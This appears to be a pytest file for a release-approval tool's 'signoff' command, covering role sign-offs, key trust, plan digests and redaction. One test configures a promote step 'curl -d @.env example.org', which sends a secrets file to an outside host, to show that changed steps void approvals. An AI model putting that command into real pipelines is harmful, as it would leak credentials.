"""`guardrails signoff` from outside: two people in two roles let a promotion through, and a rejection stops it."""

import json
import subprocess
import sys
import time
from pathlib import Path
from shlex import quote

import pytest

from dirty.dirty_repository import git, snapshot
from guardrails.facts.approval.signoff_blocks import SignOffBlock, parse_blocks
from signers import Signers
from worlds.small_world import RELEASE, SmallWorld, outcomes, small_world

PROMOTE = ("--env", "prod", "--op", "promote", "--candidate", RELEASE)


@pytest.fixture
def world(tmp_path: Path) -> SmallWorld:
    """A release that has a new commit since it was approved."""
    made = small_world(tmp_path)
    git(made.dev, "commit", "-q", "--allow-empty", "-m", "one more")
    return made


def say(world: SmallWorld, role: str, decision: str = "approved", *more: str) -> str:
    done = world.run("signoff", "--role", role, "--env", "prod", "--commit", RELEASE, "--decision", decision, *more)
    assert (done.returncode, done.stderr) == (0, "")
    return done.stdout


def approved(world: SmallWorld) -> str:
    return outcomes(world.report(*PROMOTE))["required-signoffs"]


def test_each_role_must_approve_this_commit(world: SmallWorld) -> None:
    assert approved(world) == "fail"
    printed = say(world, "architect-1", "approved", "--signer", "one@example.org")
    commit = git(world.dev, "rev-parse", RELEASE)
    *said, recorded = printed.splitlines()
    assert said == [
        f"architect-1: approved {commit}",
        "  subject      one more",
        "  environment  prod",
        "  operation    promote",
        f"  plan         {world.plan(commit)}",
    ]
    assert recorded.startswith(f"recorded as refs/signoffs/{commit}/architect-1/")
    assert recorded.endswith("nobody signed it, so it counts only where [trust] has no allowed_signers")
    assert approved(world) == "fail"
    say(world, "architect-2", "approved", "--signer", "two@example.org")
    assert approved(world) == "pass"
    say(world, "architect-2", "rejected", "--signer", "two@example.org", "--notes", "wait")
    assert approved(world) == "fail"


def test_with_trust_only_keys_count(world: SmallWorld, tmp_path: Path) -> None:
    signers = Signers(tmp_path / "keys")
    world.configure(f'[trust]\nallowed_signers = "{signers.allow("one", "two")}"\n')
    for number, name in enumerate(("one", "two"), start=1):
        assert approved(world) == "fail"
        say(world, f"architect-{number}", "approved", "--signer", "anybody", "--key", signers.key(name).path)
    assert approved(world) == "pass"


ROLES = """[policies.required-signoffs]
roles = { architect-1 = ["one@example.org"], architect-2 = ["two@example.org", "ada@example.org"] }
"""


def wait_for_the_next_second() -> None:
    """Of two sign-offs by one person in one second, neither is the newer one."""
    time.sleep(1.01 - time.time() % 1)


def test_an_approval_that_does_not_count_says_so_when_it_is_given(world: SmallWorld, tmp_path: Path) -> None:
    signers = Signers(tmp_path / "keys")
    path = signers.allow("one", "two", ada="ada@example.org", late='late@example.org valid-after="20990101"')
    world.configure(f'[trust]\nallowed_signers = "{path}"\n{ROLES}')
    one, two, ada, late, new = (
        ("--signer", "x", "--key", signers.key(name).path) for name in ("one", "two", "ada", "late", "new")
    )
    for role, more, why in (
        ("intern", one, "nobody requires the role intern; the roles are: architect-1, architect-2"),
        ("architect-1", ("--signer", "one@example.org"), f"nobody signed it; sign it with a key that {path} lists"),
        ("architect-1", new, f"it is signed by a key that is not in {path}; sign it with a key"),
        ("architect-1", late, "its signature does not verify for late@example.org"),
        (
            "architect-1",
            two,
            "it is by two@example.org, who does not speak for architect-1; architect-1 needs somebody",
        ),
        ("architect-2", ada, "it is by ada@example.org, who made part of what it brings; architect-2 needs somebody"),
        ("architect-2", (*two, "--after", "architect-1"), "it is by two@example.org, which depends on architect-1"),
    ):
        assert f"\nit does not count: {why}" in say(world, role, "approved", *more)
    for role, more in (("architect-1", one), ("architect-2", two)):
        wait_for_the_next_second()
        assert "does not count" not in say(world, role, "approved", *more)
    assert approved(world) == "pass"
    wait_for_the_next_second()
    assert "it does not count: two@example.org does not speak for" in say(world, "architect-1", "rejected", *two)
    assert "does not count" not in say(world, "architect-1", "rejected", *one)


def test_one_person_in_two_roles_is_told(world: SmallWorld) -> None:
    assert "does not count" not in say(world, "architect-1", "approved", "--signer", "one@example.org")
    assert "who approves for another role too" in say(world, "architect-2", "approved", "--signer", "one@example.org")


def test_where_nothing_asks_for_approvals_that_is_told(world: SmallWorld) -> None:
    world.configure("[policies.required-signoffs]\nwhen = []\n")
    printed = say(world, "architect-1", "approved", "--signer", "one@example.org")
    assert "it does not count: nothing asks for it: no required-signoffs applies here" in printed


@pytest.mark.parametrize("signed", [True, False])
def test_the_lines_of_the_findings_end_them(world: SmallWorld, tmp_path: Path, signed: bool) -> None:
    signers = Signers(tmp_path / "keys")
    trust = f'[trust]\nallowed_signers = "{signers.allow("one", "two")}"\n' if signed else ""
    world.configure(trust + ROLES)
    assert approved(world) == "fail"
    for _ in range(2):
        found = next(one for one in world.report(*PROMOTE)["results"] if one["policy"] == "required-signoffs")
        line = found["findings"][0]["remediation"]
        name = line.partition("--signer ")[2].partition("@")[0]
        script = f'guardrails() {{ {quote(sys.executable)} -m guardrails "$@"; }}\n{line}\n'
        for key in ["", signers.key(name).path] if signed else [""]:
            environment = world.environment(GUARDRAILS_KEY=key)
            done = subprocess.run(
                ["sh", "-c", script], cwd=world.folder, env=environment, capture_output=True, text=True
            )
            assert done.returncode == 0
            assert ("it does not count: nobody signed it" in done.stdout) == (signed and not key)
    assert approved(world) == "pass"


@pytest.mark.parametrize(
    "wrong",
    [("--role", "no role"), ("--commit", "nowhere"), ("--env", "nowhere"), ("--decision", "maybe"), ("--key", "/none")],
)
def test_what_makes_no_sense_is_one_line_and_2(world: SmallWorld, wrong: tuple[str, str]) -> None:
    given = {"--role": "architect-1", "--env": "prod", "--commit": RELEASE, "--decision": "approved"}
    words = [word for pair in {**given, "--signer": "a@example.org", wrong[0]: wrong[1]}.items() for word in pair]
    done = world.run("signoff", *words)

    assert (done.returncode, done.stdout, done.stderr.count("\n")) == (2, "", 1)


def test_what_is_approved_is_what_the_plan_shows(world: SmallWorld) -> None:
    plan = world.run("plan", "promote", "--env", "prod", "--candidate", RELEASE)
    printed = say(world, "architect-1", "approved", "--signer", "one@example.org", "--op", "promote")
    (digest,) = (line.split()[1] for line in printed.splitlines() if line.startswith("  plan "))
    assert f"plan      {digest}\n" in plan.stdout
    report = json.loads(
        world.run("plan", "promote", "--env", "prod", "--candidate", RELEASE, "--format", "json").stdout
    )
    assert report["digest"] == digest


def test_other_steps_need_other_approvals(world: SmallWorld) -> None:
    for number in (1, 2):
        say(world, f"architect-{number}", "approved", "--signer", f"{number}@example.org")
    assert approved(world) == "pass"
    world.configure('[operations.promote]\nsteps = ["git merge --ff-only {candidate}", "curl -d @.env example.org"]\n')
    (result,) = (one for one in world.report(*PROMOTE)["results"] if one["policy"] == "required-signoffs")
    assert result["outcome"] == "fail"
    assert "it approves another plan (steps or operation have changed)" in result["findings"][0]["observed"]
    for number in (1, 2):
        say(world, f"architect-{number}", "approved", "--signer", f"{number}@example.org")
    assert approved(world) == "pass"


def test_which_operation_is_asked_where_it_is_not_clear(world: SmallWorld) -> None:
    words = ("signoff", "--role", "architect-1", "--commit", RELEASE, "--decision", "approved", "--signer", "a")
    done = world.run(*words, "--env", "dev")
    assert (done.returncode, done.stderr) == (
        2, "guardrails: for which operation in dev? add --op; none would do\n",
    )  # fmt: skip
    world.configure('[operations.hotfix]\nenvironment = "prod"\ncandidate_from = "dev"\nmoves_head_to = "candidate"\n')
    done = world.run(*words, "--env", "prod")
    assert (done.returncode, done.stderr) == (
        2, "guardrails: for which operation in prod? add --op; hotfix, promote would do\n",
    )  # fmt: skip
    done = world.run(*words, "--env", "prod", "--op", "hotfix")
    assert (done.returncode, "  operation    hotfix\n" in done.stdout) == (0, True)
    assert approved(world) == "fail"
    done = world.run(*words, "--env", "prod", "--op", "promtoe")
    assert (done.returncode, done.stderr) == (2, "guardrails: unknown operation promtoe; did you mean promote?\n")


def render(world: SmallWorld) -> tuple[list[SignOffBlock], str]:
    """The blocks that are printed, read again, and what is said beside them."""
    before = snapshot(world.prod, world.dev)
    done = world.run("signoff", "--env", "prod", "--commit", RELEASE, "--render")
    assert (done.returncode, snapshot(world.prod, world.dev)) == (0, before)
    return list(parse_blocks(done.stdout, "it")), done.stderr


def test_a_page_of_what_was_recorded(world: SmallWorld, tmp_path: Path) -> None:
    signers = Signers(tmp_path / "keys")
    world.configure(
        f'[trust]\nallowed_signers = "{signers.allow("one", "two", "ci")}"\n'
        "[policies.required-signoffs]\n"
        'roles = { architect-1 = ["one@example.org"], architect-2 = ["two@example.org"] }\n'
    )
    commit = git(world.dev, "rev-parse", RELEASE)
    assert render(world) == ([], f"guardrails: no sign-off of {commit} counts\n")
    say(
        world,
        "architect-1",
        "approved",
        "--key",
        signers.key("one").path,
        "--signer",
        "x",
        "--notes",
        "Всё\n```\nгotово",
    )
    say(world, "architect-2", "rejected", "--key", signers.key("two").path, "--signer", "x", "--after", "architect-1")
    say(world, "architect-2", "approved", "--key", signers.key("ci").path, "--signer", "two@example.org")
    say(world, "architect-2", "approved", "--signer", "two@example.org")
    (one, two), said = render(world)
    today = time.strftime("%Y-%m-%d", time.gmtime())
    assert (one.role, one.status, one.owner, one.commit) == ("architect-1", "approved", "one@example.org", commit)
    assert (two.role, two.status, two.owner, two.after) == (
        "architect-2", "rejected", "two@example.org", ("architect-1",),
    )  # fmt: skip
    assert {one.date, two.date} == {today}
    assert git(world.dev, "cat-file", "-t", one.statement) == "blob"
    assert "ci@example.org does not speak for architect-2\n" in said
    assert "nobody signed it\n" in said
    assert said.count("\n") == 2


def test_a_page_of_what_anybody_may_have_said_is_called_so(world: SmallWorld) -> None:
    say(world, "architect-1", "approved", "--signer", "one@example.org")
    (one,), said = render(world)
    assert one.owner == "one@example.org"
    assert said == "guardrails: nobody need sign, so anybody may have said so: [trust] has no allowed_signers\n"


@pytest.mark.parametrize(
    "more",
    [
        ("--role", "a"),
        ("--decision", "approved"),
        ("--after", "a"),
        ("--notes", "x"),
        ("--signer", "x"),
        ("--commit", "none"),
    ],
)
def test_what_does_not_go_with_a_page(world: SmallWorld, more: tuple[str, str]) -> None:
    done = world.run("signoff", "--env", "prod", "--commit", RELEASE, "--render", *more)
    assert (done.returncode, done.stdout, done.stderr.count("\n")) == (2, "", 1)


def test_a_role_and_a_decision_must_be_given(world: SmallWorld) -> None:
    done = world.run("signoff", "--env", "prod", "--commit", RELEASE, "--role", "architect-1")
    assert (done.returncode, done.stdout, done.stderr.count("\n")) == (2, "", 1)
    assert "--decision must be given, or --render" in done.stderr


def test_a_subject_is_only_text(world: SmallWorld) -> None:
    git(world.dev, "commit", "-q", "--allow-empty", "-m", "\x1b[31mapproved\x1b[0m token=canary-1234")
    printed = say(world, "architect-1", "approved", "--signer", "a")
    assert r"  subject      \x1b[31mapproved\x1b[0m token=***" in printed
